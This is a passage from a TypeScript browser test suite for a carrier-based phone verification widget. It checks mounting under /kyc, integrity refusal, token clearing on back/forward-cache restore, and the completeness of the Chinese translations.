        });
        expect([endpoint, outcome]).toEqual([endpoint, { status: 'error', detail: { code: 'NOT_FOUND', message: "No such route: a widget's endpoint is the full address of the proxy's /api/verify", retryable: false } }]);
      } finally {
        await shop.close();
      }
    }
  });

  it('is refused by the browser when its integrity value does not match', async () => {
    const shop = await siteLoading(integrityOf('not the bundle'));
    try {
      expect(await shop.title()).toBe('refused');
      expect(await shop.evaluate(() => customElements.get('carrier-verify') === undefined)).toBe(true);
    } finally {
      await shop.close();
    }
  });
});

describe('the demo and monitoring pages with the app mounted under /kyc of a site', () => {
  /** A site of its own at the root, the proxy at /kyc, served by @hono/node-server as a site's backend would. */
  async function siteServer(): Promise<{ url: string; close: () => void }> {
    const app = new Hono();
    app.get('/', (c) => c.html('<p>the site’s home</p>'));
    app.route('/kyc', createApp({ assets: site.assets, log: () => undefined }));
    const listening = await new Promise<ServerType>((resolve) => {
      const server = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' }, () => resolve(server));
    });
    return { url: `http://127.0.0.1:${(listening.address() as AddressInfo).port}`, close: () => listening.close() };
  }

  it('loads every file from under /kyc, verifies through it, and links the dashboard there and back', { timeout: 30_000 }, async () => {
    const kyc = await siteServer();
    const mounted = await browser.newPage({ viewport: { width: 1200, height: 900 } });
    const asked: string[] = [];
    const failures: string[] = [];
    mounted.on('response', (response) => {
      if (response.url().startsWith(kyc.url)) asked.push(`${response.status()} ${new URL(response.url()).pathname}`);
    });
    mounted.on('pageerror', (error) => failures.push(error.message));
    try {
      await mounted.goto(`${kyc.url}/kyc`);
      await mounted.locator('#directory tbody tr', { hasText: '13800138000' }).first().click();
      await mounted.getByRole('button', { name: /^验证/ }).click();
      await expect.poll(() => mounted.locator('#log li').first().innerText(), { timeout: 8000 }).toContain('cv-verified');
      // What a backend is shown, and the code to copy, name the app where it is: under /kyc.
      await mounted.getByRole('button', { name: /^提交表单/ }).click();
      await expect.poll(() => mounted.locator('#form-output-answer').innerText()).toMatch(/^POST \/kyc\/api\/siteverify → 200\n/);
      expect(await mounted.locator('#snippet').innerText()).toContain(`<script src="${kyc.url}/kyc/carrier-verify.js"></script>`);
      expect(await mounted.locator('#snippet').innerText()).toContain(`endpoint="${kyc.url}/kyc/api/verify"`);
      await mounted.locator('#tab-backend').click();
      expect(await mounted.locator('#snippet').innerText()).toContain(`fetch('${kyc.url}/kyc/api/siteverify'`);
      await mounted.getByRole('link', { name: /监控面板/ }).click();
      await mounted.waitForURL(`${kyc.url}/kyc/dashboard`);
      await expect.poll(() => mounted.locator('[data-tile="requests"] .value').textContent()).toBe('1');
      expect(await mounted.locator('#metrics-path').textContent()).toBe('GET /kyc/metrics');
      await mounted.getByRole('link', { name: /Demo/ }).click();
      await mounted.waitForURL(`${kyc.url}/kyc`);
      await mounted.locator('carrier-verify').waitFor();
      expect(failures).toEqual([]);
      // The pages, their files, the bundle, the verification and the stats: all the app's, none lost to the site's routes.
      // The bundle, met again on the way back, is revalidated: the copy the browser has is the one (304).
      expect(asked.filter((line) => !/^200 \/kyc(\/|$)/.test(line) && line !== '304 /kyc/carrier-verify.js')).toEqual([]);
      for (const path of ['/kyc', '/kyc/carrier-verify.js', '/kyc/api/verify', '/kyc/dashboard']) expect(asked).toContain(`200 ${path}`);
      expect(asked).toContain('200 /kyc/api/stats');
    } finally {
      await mounted.close();
      kyc.close();
    }
  });
});

describe('a signup page on another site, through Back', () => {
  /**
   * A shop of its own origin: `/signup` is a form with the widget (loading the proxy's bundle) that sends the
   * token to `/welcome`, a page that links back. `store` says whether the browser may keep the signup page in its
   * back/forward cache: `no-store` keeps it out, and the page is loaded again, its fields handed back by the browser.
   */
  async function shop(store: boolean): Promise<{ url: string; close: () => void }> {
    const proxy = `http://127.0.0.1:${server.port}`;
    const signup = `<!doctype html><html lang="zh-CN"><head><title>signup</title></head><body>
      <form action="/welcome" method="get"><input name="nick" id="nick"><carrier-verify required endpoint="${proxy}/api/verify"></carrier-verify><button id="go">注册</button></form>
      <a id="terms" href="/welcome">条款</a>
      <script>
        window.heard = [];
        addEventListener('pageshow', (event) => heard.push('pageshow ' + event.persisted));
        document.addEventListener('cv-cleared', (event) => heard.push('cv-cleared ' + event.detail.reason));
      </script>
      <script src="${proxy}/carrier-verify.js"></script></body></html>`;
    const pages = createServer((req, res) => {
      const headers = { 'content-type': 'text/html; charset=utf-8', ...(store ? {} : { 'cache-control': 'no-store' }) };
      res.writeHead(200, headers).end(req.url?.startsWith('/signup') ? signup : '<!doctype html><title>welcome</title><p>welcome</p>');
    });
    await new Promise<void>((resolve) => pages.listen(0, '127.0.0.1', resolve));
    return { url: `http://127.0.0.1:${(pages.address() as AddressInfo).port}`, close: () => pages.close() };
  }

  const widgetState = (page: Page) =>
    page.evaluate(() => {
      const el = document.querySelector('carrier-verify')!;
      const field = (id: string) => el.shadowRoot!.querySelector<HTMLInputElement>(`#${id}`)!.value;
      return { status: el.status, token: el.token, name: field('name'), phone: field('phone'), valid: document.querySelector('form')!.checkValidity() };
    });

  it('drops a token the form sent when the page comes back from the back/forward cache, the fields kept', { timeout: 30_000 }, async () => {
    const site = await shop(true);
    const cached = await launchChromium({ backForwardCache: true });
    const page = await cached.newPage();
    try {
      await page.goto(`${site.url}/signup`);
      await page.locator('carrier-verify').waitFor();
      await page.getByLabel('姓名').fill('张三');
      await page.getByLabel('手机号').fill('13800138000');
      await page.getByRole('button', { name: '验证' }).click();
      await expect.poll(() => page.evaluate(() => document.querySelector('carrier-verify')!.status)).toBe('verified');
      await page.locator('#go').click();
      await page.waitForURL(/\/welcome\?/);
      // The site's backend redeems the token it was sent.
      const sent = new URL(page.url()).searchParams.get('carrier-verify-token');
      const redeemed = await fetch(`http://127.0.0.1:${server.port}/api/siteverify`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ secret: 'sandbox-secret', token: sent }),
      });
      expect((await redeemed.json()).success).toBe(true);
      // A page restored from the cache fires no load event.
      await page.goBack({ waitUntil: 'commit' });
      await expect.poll(() => page.evaluate(() => (window as unknown as { heard: string[] }).heard)).toEqual(['pageshow false', 'pageshow true', 'cv-cleared restored']);
      expect(await widgetState(page)).toEqual({ status: 'idle', token: null, name: '张三', phone: '138 0013 8000', valid: false });
      // Verified again, the form sends a token the backend takes.
      await page.getByRole('button', { name: '验证' }).click();
      await expect.poll(() => page.evaluate(() => document.querySelector('carrier-verify')!.status)).toBe('verified');
      const fresh = (await widgetState(page)).token;
      expect(fresh).not.toBe(sent);
      const again = await fetch(`http://127.0.0.1:${server.port}/api/siteverify`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ secret: 'sandbox-secret', token: fresh }),
      });
      expect((await again.json()).success).toBe(true);
    } finally {
      await cached.close();
      site.close();
    }
  });

  it('has the browser hand back what was typed, not yet verified, when the page is loaded again on Back', { timeout: 30_000 }, async () => {
    const site = await shop(false);
    const page = await browser.newPage();
    try {
      await page.goto(`${site.url}/signup`);
      await page.locator('carrier-verify').waitFor();
      await page.locator('#nick').fill('xiaozhang');
      await page.getByLabel('姓名').fill('张三');
      await page.getByLabel('手机号').fill('13800138000');
      await page.locator('#terms').click();
      await page.waitForURL(/\/welcome$/);
      await page.goBack();
      await page.locator('carrier-verify').waitFor();
      await expect.poll(() => page.evaluate(() => (window as unknown as { heard: string[] }).heard)).toEqual(['pageshow false']);
      // The page's own field and the widget's both come back.
      await expect.poll(() => widgetState(page)).toEqual({ status: 'idle', token: null, name: '张三', phone: '138 0013 8000', valid: false });
      expect(await page.locator('#nick').inputValue()).toBe('xiaozhang');
    } finally {
      await page.close();
      site.close();
    }
  });
});

describe('the words of the demo and monitoring pages', () => {
  /** Each text of a language by where it is: `title`, `limitNames.ip`, `codeGloss.RATE_LIMITED`… */
  const leaves = (value: unknown, path = ''): [string, unknown][] =>
    value !== null && typeof value === 'object' ? Object.entries(value).flatMap(([key, inner]) => leaves(inner, path ? `${path}.${key}` : key)) : [[path, value]];

  it.each([
    ['demo', pageText],
    ['monitoring', dashboardText],
  ] as const)('has every text of the %s page in each Chinese, none left in English', (_, texts: Readonly<Record<'en' | 'zh-CN' | 'zh-TW', object>>) => {
    const english = leaves(texts.en);
    for (const lang of ['zh-CN', 'zh-TW'] as const) {
      const chinese = new Map(leaves(texts[lang]));
      // The English demo names the check by its Chinese name, as the Chinese pages do.
      const untranslated = english.filter(([key, text]) => key !== 'term' && (typeof chinese.get(key) !== 'string' || chinese.get(key) === text)).map(([key]) => `${lang} ${key}`);
      expect(untranslated).toEqual([]);
    }
    // Both say the same things, the codes each glosses among them.
    expect(leaves(texts['zh-TW']).map(([key]) => key).sort()).toEqual(leaves(texts['zh-CN']).map(([key]) => key).sort());
  });
});
